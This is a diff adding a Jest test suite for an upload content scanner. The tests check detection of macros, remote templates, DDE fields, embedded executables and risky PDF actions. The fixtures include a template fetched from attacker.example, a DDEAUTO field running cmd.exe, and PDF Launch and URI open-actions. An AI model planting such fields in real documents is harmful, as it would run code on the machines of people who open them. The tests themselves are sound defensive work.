@@ -0,0 +1,137 @@
+const zlib = require('zlib');
+const JSZip = require('jszip');
+
+jest.mock('../utils/logger', () => ({ info: jest.fn(), warn: jest.fn(), error: jest.fn() }));
+
+const logger = require('../utils/logger');
+const { registerScanner, scanFile } = require('../utils/contentScanner');
+
+const CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
+
+const buildDocx = async (parts) => {
+  const zip = new JSZip();
+  zip.file('[Content_Types].xml', CONTENT_TYPES);
+  zip.file('word/document.xml', '<w:document><w:body><w:p><w:r><w:t>Policy</w:t></w:r></w:p></w:body></w:document>');
+  for (const [name, content] of Object.entries(parts)) {
+    zip.file(name, content);
+  }
+  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
+};
+
+const scan = (buffer, originalname = 'upload') => scanFile({ buffer, originalname });
+const rulesOf = result => result.findings.map(finding => finding.rule);
+
+const pdf = (...objects) => Buffer.concat([
+  Buffer.from('%PDF-1.7\n'),
+  ...objects.map(object => (Buffer.isBuffer(object) ? object : Buffer.from(`${object}\n`, 'latin1'))),
+  Buffer.from('%%EOF\n')
+]);
+
+describe('scanFile', () => {
+  describe('Office documents', () => {
+    it('passes a plain document', async () => {
+      const result = await scan(await buildDocx({}));
+
+      expect(result).toMatchObject({ status: 'clean', findings: [] });
+    });
+
+    it('quarantines documents with VBA macros', async () => {
+      const result = await scan(await buildDocx({ 'word/vbaProject.bin': Buffer.from('macro') }));
+
+      expect(result.status).toBe('quarantined');
+      expect(result.findings).toEqual([
+        { scanner: 'office', rule: 'vba-macro', message: 'Contains VBA macros (word/vbaProject.bin)' }
+      ]);
+    });
+
+    it('reports templates loaded from an external location', async () => {
+      const rels = '<Relationships><Relationship Id="rId1" ' +
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
+        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>';
+
+      const result = await scan(await buildDocx({ 'word/_rels/settings.xml.rels': rels }));
+
+      expect(result.findings).toEqual([expect.objectContaining({
+        rule: 'external-template',
+        message: expect.stringContaining('http://attacker.example/t.dotm')
+      })]);
+    });
+
+    it('reports DDE fields', async () => {
+      const result = await scan(await buildDocx({
+        'word/footer1.xml': '<w:ftr><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:ftr>'
+      }));
+
+      expect(rulesOf(result)).toEqual(['dde-field']);
+    });
+
+    it('reports embedded executables', async () => {
+      const executable = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)]);
+
+      const result = await scan(await buildDocx({ 'word/embeddings/tool.bin': executable }));
+
+      expect(rulesOf(result)).toEqual(['embedded-executable']);
+    });
+  });
+
+  describe('PDF documents', () => {
+    it('passes a PDF whose OpenAction only sets the initial view', async () => {
+      const result = await scan(pdf(
+        '1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj',
+        '3 0 obj << /Type /Page >> endobj'
+      ));
+
+      expect(result).toMatchObject({ status: 'clean', findings: [] });
+    });
+
+    it('reports JavaScript, also in compressed streams and escaped names', async () => {
+      const plain = await scan(pdf('1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'));
+      const escaped = await scan(pdf('1 0 obj << /S /J#61vaScript >> endobj'));
+      const compressed = await scan(pdf(Buffer.concat([
+        Buffer.from('2 0 obj << /Filter /FlateDecode >> stream\n'),
+        zlib.deflateSync(Buffer.from('<< /S /JavaScript /JS (app.alert(1)) >>')),
+        Buffer.from('endstream endobj\n')
+      ])));
+
+      expect(rulesOf(plain)).toContain('pdf-javascript');
+      expect(rulesOf(escaped)).toContain('pdf-javascript');
+      expect(rulesOf(compressed)).toContain('pdf-javascript');
+    });
+
+    it('reports an OpenAction that runs a risky action, inline or by reference', async () => {
+      const inline = await scan(pdf('1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj'));
+      const referenced = await scan(pdf(
+        '1 0 obj << /Type /Catalog /OpenAction 5 0 R >> endobj',
+        '5 0 obj << /S /URI /URI (http://attacker.example) >> endobj'
+      ));
+
+      expect(inline.findings).toContainEqual({ scanner: 'pdf', rule: 'pdf-open-action', message: 'Runs a Launch action when opened' });
+      expect(referenced.findings).toEqual([{ scanner: 'pdf', rule: 'pdf-open-action', message: 'Runs a URI action when opened' }]);
+    });
+
+    it('reports embedded files', async () => {
+      const result = await scan(pdf('1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj'));
+
+      expect(rulesOf(result)).toEqual(['pdf-embedded-file']);
+    });
+  });
+
+  it('adds findings from registered scanners and survives scanners that fail', async () => {
+    registerScanner({
+      name: 'keyword',
+      appliesTo: detected => detected.type !== 'pdf',
+      scan: async buffer => (buffer.includes('EICAR') ? [{ rule: 'test-signature', message: 'Matches a test signature' }] : [])
+    });
+    registerScanner({
+      name: 'broken',
+      scan: async () => { throw new Error('scanner unavailable'); }
+    });
+
+    const infected = await scan(Buffer.from('plain text with EICAR inside'), 'notes.txt');
+    const clean = await scan(Buffer.from('plain text'), 'notes.txt');
+
+    expect(infected.findings).toEqual([{ scanner: 'keyword', rule: 'test-signature', message: 'Matches a test signature' }]);
+    expect(clean.status).toBe('clean');
+    expect(logger.error).toHaveBeenCalledWith('Scanner broken failed on notes.txt:', expect.any(Error));
+  });
+});